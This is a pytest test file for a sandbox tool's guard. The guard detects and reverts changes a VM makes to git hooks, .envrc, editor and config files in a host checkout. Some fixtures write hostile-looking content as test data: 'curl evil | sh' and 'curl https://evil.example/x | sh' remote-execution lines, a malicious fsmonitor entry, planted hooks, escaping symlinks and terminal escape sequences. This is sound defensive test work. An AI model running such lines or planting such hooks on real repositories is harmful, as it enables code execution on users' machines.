"""The guard on files the host runs, on a real git checkout: record, compare, show, revert."""

from __future__ import annotations

import json
import os
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from opencode_sandbox.app import App
from opencode_sandbox.cli.render import render_status
from opencode_sandbox.config.loader import load_settings
from opencode_sandbox.core.guard import COPY_LIMIT, LINK, OLD_REVIEW_FOLDER
from opencode_sandbox.errors import ConfigError
from opencode_sandbox.paths import ToolPaths
from opencode_sandbox.runtime.types import RuntimeKind
from opencode_sandbox.services.guard import files as guard_files
from opencode_sandbox.services.guard.reviews import (
    GuardStore,
    note_vm_stopped,
    read_only_paths,
    review,
    status,
)
from tests.fakes.runtime import FakeRuntime
from tests.services.app_fakes import SLUG, make_app, messages

HOOK = "#!/bin/sh\ntouch \"$(git rev-parse --show-toplevel)/../hook-ran\"\n"


def git(cwd: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@example.com", *args], cwd=cwd,
                          capture_output=True, text=True, check=False)


@pytest.fixture
def checkout(tmp_path: Path) -> Path:
    root = tmp_path / "checkout"
    root.mkdir()
    git(root, "init", "-q", "-b", "main")
    (root / "README.md").write_text("# guard\n")
    (root / ".envrc").write_text("export A=1\n")
    (root / ".pre-commit-config.yaml").write_text("repos: []\n")
    (root / ".githooks").mkdir()
    git(root, "config", "core.hooksPath", ".githooks")  # the host's own hooks, in the work tree
    git(root, "add", ".")
    assert git(root, "commit", "-q", "-m", "init").returncode == 0
    return root


@pytest.fixture
def fake() -> Iterator[FakeRuntime]:
    runtime = FakeRuntime(RuntimeKind.DOCKER)
    yield runtime
    runtime.close()


def app_on(fake: FakeRuntime, root: Path, interactive: bool = False) -> App:
    return make_app(fake, root, interactive=interactive)


def write_hook(root: Path, name: str = "pre-commit", text: str = HOOK, mode: int = 0o755) -> Path:
    hook = root / ".githooks" / name
    hook.write_text(text)
    hook.chmod(mode)
    return hook


def review_root(app: App) -> Path:
    """Where the guard keeps what it takes from the checkout: the project's private state folder."""
    return GuardStore(app.state.project_dir(app.project.slug)).review


def review_folders(app: App) -> list[Path]:
    folder = review_root(app)
    return sorted(path for path in folder.iterdir() if path.is_dir()) if folder.is_dir() else []


def test_a_hook_added_while_the_vm_ran_is_shown_reverted_and_kept_for_review(fake: FakeRuntime,
                                                                           checkout: Path) -> None:
    app = app_on(fake, checkout)
    review(app, vm_may_write_after=True)  # the start
    write_hook(checkout)

    outcome = review(app, vm_may_write_after=False)  # the stop, without a terminal

    assert outcome.reverted
    said = messages(app)
    assert ".githooks/pre-commit: added (mode 0755, " in said
    assert '+touch "$(git rev-parse --show-toplevel)/../hook-ran"' in said
    assert "no terminal to ask on: reverting them" in said
    assert not (checkout / ".githooks/pre-commit").exists()
    [folder] = review_folders(app)
    kept = folder / ".githooks/pre-commit"
    assert kept.read_text() == HOOK
    assert kept.stat().st_mode & 0o111 == 0, "nothing kept for review may run"
    assert review_root(app).stat().st_mode & 0o777 == 0o700, "the review folder is private"
    assert f"the VM's versions are kept in {folder}" in said
    assert not (checkout / OLD_REVIEW_FOLDER).exists(), "nothing of the guard's lies in the checkout"
    (checkout / "file").write_text("x")
    git(checkout, "add", "file")
    assert git(checkout, "commit", "-q", "-m", "after").returncode == 0
    assert not (checkout.parent / "hook-ran").exists(), "the reverted hook ran"
    assert "?? .opencode-sandbox" not in git(checkout, "status", "--porcelain").stdout
    assert render_status(status(app), "table").splitlines()[-1] == "state: clean"


def test_a_changed_file_and_a_removed_hook_come_back_with_content_and_mode(fake: FakeRuntime,
                                                                          checkout: Path) -> None:
    write_hook(checkout, "pre-push", "#!/bin/sh\nexit 0\n")
    config_before = (checkout / ".pre-commit-config.yaml").read_text()
    app = app_on(fake, checkout)
    review(app, vm_may_write_after=True)
    with (checkout / ".pre-commit-config.yaml").open("a") as config:
        config.write("[core]\n\tfsmonitor = /workspace/evil\n")
    (checkout / ".githooks/pre-push").unlink()

    review(app, vm_may_write_after=True)

    said = messages(app)
    assert "+\tfsmonitor = /workspace/evil" in said
    assert ".githooks/pre-push: removed (was mode 0755, 17 bytes)" in said
    assert (checkout / ".pre-commit-config.yaml").read_text() == config_before
    assert (checkout / ".githooks/pre-push").stat().st_mode & 0o777 == 0o755
    [folder] = review_folders(app)
    assert "fsmonitor" in (folder / ".pre-commit-config.yaml").read_text()


def test_the_same_change_twice_gets_two_review_folders(fake: FakeRuntime, checkout: Path) -> None:
    app = app_on(fake, checkout)
    review(app, vm_may_write_after=True)
    for _ in range(2):
        (checkout / ".envrc").write_text("curl evil | sh\n")
        review(app, vm_may_write_after=True)
    assert len(review_folders(app)) == 2, "a review copy is never overwritten"
    assert (checkout / ".envrc").read_text() == "export A=1\n"


def test_changes_made_on_the_host_while_no_vm_runs_are_never_reverted(fake: FakeRuntime, checkout: Path) -> None:
    app = app_on(fake, checkout)
    review(app, vm_may_write_after=False)  # recorded at a stop
    (checkout / ".envrc").write_text("export A=2\n")
    write_hook(checkout)
    found = status(app)
    assert [change.path for change in found.on_host] == [".envrc", ".githooks/pre-commit"] and not found.by_vm

    outcome = review(app, vm_may_write_after=True)  # the next start

    assert not outcome.by_vm and "changed while the VM ran" not in messages(app)
    assert (checkout / ".envrc").read_text() == "export A=2\n"
    assert (checkout / ".githooks/pre-commit").exists()


def test_on_a_terminal_keeping_records_the_vms_version(fake: FakeRuntime, checkout: Path) -> None:
    app = app_on(fake, checkout, interactive=True)
    review(app, vm_may_write_after=True)
    (checkout / ".envrc").write_text("export A=3\n")
    questions: list[str] = []

    def keep(question: str) -> bool:
        questions.append(question)
        return False

    outcome = review(app, vm_may_write_after=True, ask=keep)

    assert not outcome.reverted and questions == [f"Revert them? The VM's versions are kept under {review_root(app)}/"]
    assert (checkout / ".envrc").read_text() == "export A=3\n"
    assert status(app).by_vm == ()
    assert review(app, vm_may_write_after=True, ask=keep).by_vm == () and len(questions) == 1


def test_a_hook_added_removed_and_added_again_counts_by_its_end_state(fake: FakeRuntime, checkout: Path) -> None:
    write_hook(checkout, "pre-push", "#!/bin/sh\nexit 0\n")
    app = app_on(fake, checkout)
    review(app, vm_may_write_after=True)
    write_hook(checkout)
    (checkout / ".githooks/pre-commit").unlink()
    write_hook(checkout, text=HOOK + "# again\n")
    (checkout / ".githooks/pre-push").unlink()
    write_hook(checkout, "pre-push", "#!/bin/sh\nexit 0\n")

    found = status(app)

    assert [(change.path, change.what) for change in found.by_vm] == [(".githooks/pre-commit", "added")]


def test_a_guarded_symlink_is_recorded_and_never_followed(fake: FakeRuntime, checkout: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "tasks.json").write_text("{}\n")
    (checkout / ".envrc").unlink()
    (checkout / ".envrc").symlink_to(outside / "tasks.json")
    app = app_on(fake, checkout)
    review(app, vm_may_write_after=True)
    store = GuardStore(app.state.project_dir(SLUG))
    record = store.load()
    assert record is not None and record.entries[".envrc"].kind == LINK
    (outside / "tasks.json").write_text('{"changed": true}\n')
    assert status(app).by_vm == (), "the link's target is outside the checkout: not read"

    (checkout / ".vscode").symlink_to(outside)  # the VM points a guarded folder out of the checkout
    review(app, vm_may_write_after=True)

    assert not (checkout / ".vscode").exists() and not (checkout / ".vscode").is_symlink()
    assert (outside / "tasks.json").read_text() == '{"changed": true}\n', "nothing written outside"
    assert os.readlink(checkout / ".envrc") == str(outside / "tasks.json")


def test_a_restore_replaces_a_link_in_its_way_instead_of_writing_through_it(fake: FakeRuntime, checkout: Path,
                                                                          tmp_path: Path) -> None:
    write_hook(checkout, "pre-push", "#!/bin/sh\nexit 0\n")
    app = app_on(fake, checkout)
    review(app, vm_may_write_after=True)
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    hooks = checkout / ".githooks"
    for hook in hooks.iterdir():
        hook.unlink()
    hooks.rmdir()
    hooks.symlink_to(outside)

    review(app, vm_may_write_after=True)

    assert hooks.is_dir() and not hooks.is_symlink()
    assert (hooks / "pre-push").read_text() == "#!/bin/sh\nexit 0\n"
    assert list(outside.iterdir()) == []


def test_what_the_vm_left_at_the_stop_is_told_from_later_host_changes(fake: FakeRuntime, checkout: Path) -> None:
    app = app_on(fake, checkout)
    review(app, vm_may_write_after=True)
    write_hook(checkout)
    (checkout / ".envrc").write_text("by the VM\n")
    note_vm_stopped(ToolPaths.from_environment().state_dir, SLUG)  # the idle reaper stopped it
    (checkout / ".envrc").write_text("by the user afterwards\n")
    (checkout / ".vscode").mkdir()
    (checkout / ".vscode/tasks.json").write_text("{}\n")

    review(app, vm_may_write_after=True)

    assert not (checkout / ".githooks/pre-commit").exists()
    assert (checkout / ".envrc").read_text() == "by the user afterwards\n"
    assert (checkout / ".vscode/tasks.json").exists()
    assert "changed on the host after the VM stopped, kept as they are: .envrc" in messages(app)


def test_a_file_too_big_to_copy_is_moved_aside_and_said(fake: FakeRuntime, checkout: Path) -> None:
    folder = checkout / ".opencode-sandbox"
    folder.mkdir()
    (folder / "big.bin").write_bytes(b"\0" * (COPY_LIMIT + 1))
    app = app_on(fake, checkout)
    review(app, vm_may_write_after=True)
    (folder / "big.bin").write_bytes(b"\1" * 10)

    review(app, vm_may_write_after=True)

    said = messages(app)
    assert "binary or not kept" in said and "its earlier version was not kept (over 1 MiB" in said
    assert not (folder / "big.bin").exists()
    [kept] = review_folders(app)
    assert (kept / ".opencode-sandbox/big.bin").read_bytes() == b"\1" * 10


def test_a_worktree_pointer_is_the_hosts_and_a_git_file_the_vm_writes_is_moved_aside(
        fake: FakeRuntime, checkout: Path, tmp_path: Path) -> None:
    tree = tmp_path / "tree"
    assert git(checkout, "worktree", "add", "-q", str(tree)).returncode == 0
    pointer = (tree / ".git").read_text()
    app = app_on(fake, tree)
    review(app, vm_may_write_after=True)
    (tree / "sub").mkdir()
    (tree / "sub" / ".git").write_text("gitdir: ../planted\n")

    outcome = review(app, vm_may_write_after=True)

    assert (tree / ".git").read_text() == pointer
    assert not (tree / "sub" / ".git").exists() and not outcome.by_vm
    assert f"sub/.git -> {review_root(app)}/" in messages(app)


def test_guarded_paths_adds_entries_and_is_refused_in_the_checkout(fake: FakeRuntime, checkout: Path,
                                                                   tmp_path: Path) -> None:
    user_file = tmp_path / "user.yaml"
    user_file.write_text("guarded-paths: [.husky]\n")
    app = app_on(fake, checkout)
    app.settings = load_settings([user_file], {}, {})
    (checkout / ".husky").mkdir()
    review(app, vm_may_write_after=True)
    (checkout / ".husky/pre-commit").write_text("evil\n")
    assert [change.path for change in status(app).by_vm] == [".husky/pre-commit"]
    assert json.loads(render_status(status(app), "json"))["result"]["changed"][0]["path"] == ".husky/pre-commit"

    in_checkout = checkout / ".opencode-sandbox" / "config.yaml"
    in_checkout.parent.mkdir()
    in_checkout.write_text("guarded-paths: []\n")
    with pytest.raises(ConfigError, match="cannot be set in the project's checkout"):
        load_settings([user_file, in_checkout], {}, {})


def test_a_reverted_project_config_is_read_again_before_the_start(fake: FakeRuntime, checkout: Path) -> None:
    from opencode_sandbox.services.start.pipeline import Start

    config = checkout / ".opencode-sandbox" / "config.yaml"
    config.parent.mkdir()
    config.write_text("network: public\n")
    app = app_on(fake, checkout)
    review(app, vm_may_write_after=True)
    config.write_text("network: none\n")
    app.settings = load_settings([config], {}, {})  # as the command read it, before the review

    Start(app)._review_guarded_files()

    assert config.read_text() == "network: public\n"
    assert app.settings.network.value == "public"


def test_read_only_paths_are_the_existing_ones_reached_without_a_link(checkout: Path, tmp_path: Path) -> None:
    (checkout / ".vscode").symlink_to(tmp_path)
    (tmp_path / "settings.json").write_text("{}")
    found = read_only_paths(checkout, [".githooks", ".pre-commit-config.yaml", ".envrc", ".vscode/settings.json",
                                       ".idea/x"])
    assert found == [".githooks", ".pre-commit-config.yaml", ".envrc"]


def test_a_snapshot_skips_fifos(checkout: Path) -> None:
    os.mkfifo(checkout / ".githooks/fifo")
    snapshot = guard_files.take_snapshot(checkout, [".githooks"])
    assert ".githooks/fifo" not in snapshot.entries


def test_a_revert_that_fails_says_so_and_is_reported_again(fake: FakeRuntime, checkout: Path,
                                                           monkeypatch: pytest.MonkeyPatch) -> None:
    app = app_on(fake, checkout)
    review(app, vm_may_write_after=True)
    (checkout / ".envrc").write_text("curl evil | sh\n")

    def refuse(*_args: object) -> None:
        raise PermissionError(1, "Operation not permitted")

    monkeypatch.setattr(guard_files, "restore", refuse)
    review(app, vm_may_write_after=True)

    assert "cannot revert .envrc: Operation not permitted" in messages(app)
    assert [change.path for change in status(app).by_vm] == [".envrc"], "never recorded as trusted"


def test_stop_and_kill_review_and_leave_later_host_changes_alone(fake: FakeRuntime, checkout: Path) -> None:
    from opencode_sandbox.services.stopping import kill, stop

    app = app_on(fake, checkout)
    review(app, vm_may_write_after=True)
    write_hook(checkout)
    stop(app, False)
    assert not (checkout / ".githooks/pre-commit").exists()
    write_hook(checkout)  # the user's own, with no VM running
    kill(app, False)
    assert (checkout / ".githooks/pre-commit").exists()


def test_yes_reverts_without_asking_and_says_why(fake: FakeRuntime, checkout: Path) -> None:
    app = make_app(fake, checkout, assume_yes=True)
    review(app, vm_may_write_after=True)
    (checkout / ".envrc").write_text("curl evil | sh\n")

    def never(question: str) -> bool:
        raise AssertionError(question)

    assert review(app, vm_may_write_after=True, ask=never).reverted
    assert "--yes: reverting them" in messages(app)
    assert (checkout / ".envrc").read_text() == "export A=1\n"


def test_guarded_paths_from_the_environment_and_outside_the_checkout() -> None:
    environment = {"OPENCODE_SANDBOX_GUARDED_PATHS": ".husky, Makefile"}
    assert load_settings([], environment, {}).guarded_paths == (".husky", "Makefile")
    with pytest.raises(ConfigError, match=r"'\.\./x' is not inside the checkout"):
        load_settings([], {"OPENCODE_SANDBOX_GUARDED_PATHS": "../x"}, {})


def test_a_change_beneath_a_path_the_vm_sees_read_only_is_still_reviewed(fake: FakeRuntime,
                                                                      checkout: Path) -> None:
    """A read-only mount is no proof: the VM may rename its parent, or lift it as root."""
    (checkout / ".opencode-sandbox").mkdir()
    app = app_on(fake, checkout)
    review(app, vm_may_write_after=True)
    (checkout / ".opencode-sandbox" / "Dockerfile").write_text("FROM x\n")

    found = status(app)
    assert [change.path for change in found.by_vm] == [".opencode-sandbox/Dockerfile"] and not found.on_host
    review(app, vm_may_write_after=True)  # a detach, without a terminal

    assert not (checkout / ".opencode-sandbox" / "Dockerfile").exists()


@pytest.mark.parametrize("settings", [{"runtime": "docker"}, {"runtime": "docker", "dind": True},
                                      {"runtime": "microsandbox"}])
def test_a_start_makes_the_tool_folder_to_present_it_read_only(tmp_path: Path, settings: dict[str, object]) -> None:
    from opencode_sandbox.services.start.pipeline import Start

    fake = FakeRuntime(RuntimeKind(str(settings["runtime"])))
    try:
        app = make_app(fake, tmp_path)
        app.settings = load_settings([], {}, settings)
        Start(app)._review_guarded_files()
        assert (tmp_path / ".opencode-sandbox").is_dir()
    finally:
        fake.close()


def test_a_link_where_older_versions_kept_copies_is_guarded_like_the_rest_and_never_followed(
        fake: FakeRuntime, checkout: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside-review"
    outside.mkdir()
    (checkout / ".opencode-sandbox").mkdir()
    app = app_on(fake, checkout)
    review(app, vm_may_write_after=True)
    (checkout / OLD_REVIEW_FOLDER).symlink_to(outside)
    (checkout / ".envrc").write_text("by the VM\n")

    outcome = review(app, vm_may_write_after=True)

    assert [change.path for change in outcome.by_vm] == [".envrc", OLD_REVIEW_FOLDER]
    assert list(outside.iterdir()) == [], "the VM's version went nowhere near the link's target"
    assert not (checkout / OLD_REVIEW_FOLDER).exists() and not (checkout / OLD_REVIEW_FOLDER).is_symlink()
    [kept] = review_folders(app)
    assert (kept / OLD_REVIEW_FOLDER).is_symlink() and (kept / ".envrc").read_text() == "by the VM\n"


def test_what_an_older_version_kept_in_the_checkout_is_the_users_and_guarded_like_the_rest(
        fake: FakeRuntime, checkout: Path) -> None:
    """The folder older versions kept copies in is left as it is, and judged: the VM can no longer
    hide a hook or a repository there."""
    old = checkout / OLD_REVIEW_FOLDER / "20261201T000000Z"
    git(checkout, "init", "-q", str(old / "sub"))  # a nested repository an older version moved there
    (old / ".envrc").write_text("an older VM's\n")
    app = app_on(fake, checkout)
    review(app, vm_may_write_after=True)  # the first start of this version
    assert not review_folders(app) and (old / "sub/.git").is_dir() and (old / ".envrc").exists()
    (old / ".envrc").write_text("curl evil | sh\n")
    git(checkout, "init", "-q", str(old / "other"))

    outcome = review(app, vm_may_write_after=True)

    assert [change.path for change in outcome.by_vm] == [f"{OLD_REVIEW_FOLDER}/20261201T000000Z/.envrc"]
    assert (old / ".envrc").read_text() == "an older VM's\n"
    assert not (old / "other/.git").exists(), "a git directory made there is moved aside like any other"
    assert (old / "sub/.git").is_dir(), "the user's files are left alone"
    assert f"{OLD_REVIEW_FOLDER}/20261201T000000Z/other/.git -> {review_root(app)}/" in messages(app)


def test_a_file_the_user_cannot_read_is_reported_and_moved_aside(fake: FakeRuntime, checkout: Path,
                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    app = app_on(fake, checkout)
    review(app, vm_may_write_after=True)
    secret = write_hook(checkout, "post-checkout", "#!/bin/sh\necho root's\n", 0o700)
    real_open = os.open

    def as_another_user(path: object, flags: int, *args: object, **kwargs: object) -> int:
        if path == "post-checkout" and not flags & os.O_WRONLY:
            raise PermissionError(13, "Permission denied")
        return real_open(path, flags, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(guard_files.os, "open", as_another_user)
    outcome = review(app, vm_may_write_after=True)

    assert [change.path for change in outcome.by_vm] == [".githooks/post-checkout"]
    assert "binary or not kept" in messages(app) and "cannot revert" not in messages(app)
    assert not secret.exists()


def test_the_review_shows_a_vm_written_escape_sequence_escaped(fake: FakeRuntime, checkout: Path) -> None:
    app = app_on(fake, checkout)
    review(app, vm_may_write_after=True)
    (checkout / ".envrc").write_text("export A=1\ncurl https://evil.example/x | sh\x1b[2K\rexport B=2\n")

    outcome = review(app, vm_may_write_after=False)

    said = messages(app)
    assert outcome.reverted
    assert "+curl https://evil.example/x | sh\\x1b[2K\\x0dexport B=2" in said
    assert "\x1b" not in said and "\r" not in said
    assert (checkout / ".envrc").read_text() == "export A=1\n"


def test_a_hook_whose_name_is_not_utf8_is_named_by_its_bytes(fake: FakeRuntime, checkout: Path) -> None:
    app = app_on(fake, checkout)
    review(app, vm_may_write_after=True)
    hooks = os.fsencode(checkout / ".githooks")
    with open(hooks + b"/pre-commit\x9b2J", "w") as hook:  # 0x9b: a one-byte control sequence introducer
        hook.write(HOOK)

    assert review(app, vm_may_write_after=False).reverted

    said = messages(app)
    assert ".githooks/pre-commit\\x9b2J: added (mode " in said
    assert not any(0xD800 <= ord(char) <= 0xDFFF for char in said), "a raw byte would reach the terminal"
    assert not os.path.exists(hooks + b"/pre-commit\x9b2J")
